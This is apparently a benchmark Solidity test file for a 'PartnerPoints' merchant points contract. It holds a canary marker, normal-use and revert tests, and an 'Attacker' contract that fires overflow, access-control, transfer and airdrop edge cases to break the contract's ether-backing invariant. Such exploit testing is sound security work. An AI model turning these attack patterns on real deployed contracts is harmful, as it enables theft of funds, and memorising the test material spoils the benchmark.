// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./PartnerPoints.sol";

// assay-canary-31b56001-bc27-41f3-9fa1-ee906c1dbc77

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

contract Attacker {
    PartnerPoints internal points;

    constructor(PartnerPoints points_) public {
        points = points_;
    }

    receive() external payable {}

    function _try(uint256 value, bytes memory data) private returns (bool ok) {
        (ok, ) = address(points).call{value: value}(data);
    }

    function _users(uint256 count) private view returns (address[] memory users) {
        users = new address[](count);
        for (uint256 i = 0; i < count; i++) users[i] = i == 0 ? address(this) : address(0xC0C0 + i);
    }

    function _buy(uint256 value, uint256 count) private {
        _try(value, abi.encodeWithSelector(points.buy.selector, 0, count));
        _try(value, abi.encodeWithSelector(points.buy.selector, 1, count));
    }

    function _redeem(uint256 mid, uint256 rewards) private {
        _try(0, abi.encodeWithSelector(points.redeem.selector, mid, rewards));
    }

    function _airdrop(uint256 count, uint256 each) private {
        _try(0, abi.encodeWithSelector(points.airdrop.selector, _users(count), each));
    }

    function run(address merchant) external {
        uint256 price = points.PRICE();
        _buy(0, 2**255);
        _buy(price, uint256(-1) / price + 2);
        _buy(price, 1);
        _try(0, abi.encodeWithSelector(points.addMerchant.selector, address(this)));
        _try(0, abi.encodeWithSelector(points.setMerchant.selector, 0, false));

        _redeem(0, uint256(-1) / 10 + 1);
        _redeem(0, 2**255);
        _redeem(0, 1);
        _redeem(1, 1);
        _try(0, abi.encodeWithSelector(points.claim.selector, 0));

        _try(0, abi.encodeWithSelector(points.transfer.selector, address(this), 5000));
        _try(0, abi.encodeWithSelector(points.transfer.selector, merchant, uint256(-1)));
        _try(0, abi.encodeWithSelector(points.transferFrom.selector, merchant, address(this), 5000));
        _try(0, abi.encodeWithSelector(points.transferFrom.selector, merchant, address(this), 0));

        _airdrop(0, uint256(-1));
        _airdrop(41, 5000);
        _airdrop(1, 5000);
        _airdrop(3, uint256(-1) / 3);
        _airdrop(40, 0);
        _airdrop(3, uint256(-1) / 3 + 1);
        _airdrop(2, 2**255);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address payable internal constant HOB = address(0x40B);
    address internal constant PIA = address(0x91A);
    PartnerPoints internal points;
    Attacker internal mallory;

    function setUp() public {
        points = new PartnerPoints();
        points.addMerchant(HOB);
        vm.deal(HOB, 1 ether);
        vm.prank(HOB);
        points.buy{value: 1 ether}(0, 5000);
        mallory = new Attacker(points);
        vm.deal(address(mallory), 1 ether);
    }

    function test_Regular() public {
        require(points.totalSupply() == 5000 && points.balanceOf(HOB) == 5000, "bought");
        address[] memory users = new address[](3);
        (users[0], users[1], users[2]) = (PIA, address(0xA1), PIA);
        vm.prank(HOB);
        points.airdrop(users, 12);
        require(points.balanceOf(PIA) == 24 && points.balanceOf(HOB) == 4964, "handed out");
        vm.prank(PIA);
        points.redeem(0, 2);
        (, , uint256 due, uint256 given) = points.merchantInfo(0);
        require(points.balanceOf(PIA) == 4 && given == 2 && due == 0.004 ether, "redeemed");
        vm.prank(HOB);
        points.claim(0);
        (, , due, ) = points.merchantInfo(0);
        require(HOB.balance == 0.004 ether && due == 0, "claimed");

        vm.prank(PIA);
        points.approve(address(this), 3);
        points.transferFrom(PIA, address(this), 2);
        require(points.allowance(PIA, address(this)) == 1 && points.balanceOf(address(this)) == 2, "allowance");
        points.transfer(address(this), 2);
        require(points.balanceOf(address(this)) == 2, "to oneself");
        vm.prank(PIA);
        points.approve(address(this), uint256(-1));
        points.transferFrom(PIA, HOB, 1);
        require(points.allowance(PIA, address(this)) == uint256(-1), "without end");
        vm.prank(HOB);
        points.airdrop(users, 10);
        vm.prank(PIA);
        points.redeem(0, 1);
        points.setMerchant(0, false);
        vm.prank(HOB);
        require(points.claim(0) == 0.002 ether, "after it left");
        points.addMerchant(HOB);
        require(points.merchantLength() == 2, "back again");
        require(address(points).balance == points.totalSupply() * points.PRICE(), "covered");
        points.transferOwnership(PIA);
        vm.prank(PIA);
        points.renounceOwnership();
        require(points.owner() == address(0), "renounced");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes memory owner = "Ownable: caller is not the owner";
        refuses(PIA, owner);
        points.addMerchant(HOB);
        refuses(PIA, owner);
        points.setMerchant(0, false);
        refuses(PIA, owner);
        points.transferOwnership(PIA);
        refuses(PIA, owner);
        points.renounceOwnership();
        vm.expectRevert("Ownable: new owner is the zero address");
        points.transferOwnership(address(0));
        vm.deal(PIA, 1 ether);
        refuses(PIA, "points: not the merchant");
        points.buy{value: 0.0002 ether}(0, 1);
        refuses(PIA, "points: not the merchant");
        points.claim(0);
    }

    function test_RefusesMerchants() public {
        vm.expectRevert("addMerchant: zero address");
        points.addMerchant(address(0));
        vm.expectRevert("setMerchant: no such merchant");
        points.setMerchant(1, true);
        vm.deal(HOB, 1 ether);
        refuses(HOB, "points: no such merchant");
        points.buy{value: 0.0002 ether}(1, 1);
        refuses(HOB, "points: no such merchant");
        points.claim(1);
        refuses(HOB, "buy: bad price");
        points.buy{value: 0.0001 ether}(0, 1);
        refuses(HOB, "SafeMath: multiplication overflow");
        points.buy(0, 2**255);
        points.addMerchant(payable(address(points)));
        refuses(address(points), "claim: not paid");
        points.claim(1);
        points.setMerchant(0, false);
        refuses(HOB, "buy: not active");
        points.buy{value: 0.0002 ether}(0, 1);
        refuses(HOB, "redeem: no such merchant");
        points.redeem(0, 1);
        refuses(HOB, "redeem: no such merchant");
        points.redeem(2, 1);
    }

    function test_RefusesPoints() public {
        address[] memory users = new address[](0);
        refuses(HOB, "airdrop: bad length");
        points.airdrop(users, 1);
        users = new address[](41);
        for (uint256 i = 0; i < 41; i++) users[i] = PIA;
        refuses(HOB, "airdrop: bad length");
        points.airdrop(users, 1);
        users = new address[](1);
        refuses(HOB, "airdrop: zero address");
        points.airdrop(users, 1);
        users[0] = HOB;
        refuses(PIA, "airdrop: not enough");
        points.airdrop(users, 1);
        refuses(PIA, "redeem: not enough");
        points.redeem(0, 1);
        refuses(PIA, "SafeMath: multiplication overflow");
        points.redeem(0, 2**255);
        refuses(HOB, "points: zero address");
        points.transfer(address(0), 1);
        refuses(HOB, "points: not enough");
        points.transfer(PIA, 5001);
        refuses(PIA, "transferFrom: allowance");
        points.transferFrom(HOB, PIA, 1);
    }

    function exploit() public {
        mallory.run(HOB);
    }

    function test_Exploit() public {
        require(covered(), "before");
        exploit();
        require(!covered(), "all is covered");
    }

    /// Nobody holds more points than there are, and each of them was paid for.
    function covered() public view returns (bool) {
        uint256 supply = points.totalSupply();
        return
            points.balanceOf(HOB) <= supply &&
            points.balanceOf(PIA) <= supply &&
            points.balanceOf(address(mallory)) <= supply &&
            address(points).balance >= supply * points.PRICE();
    }

    function target() public view returns (address) {
        return address(points);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
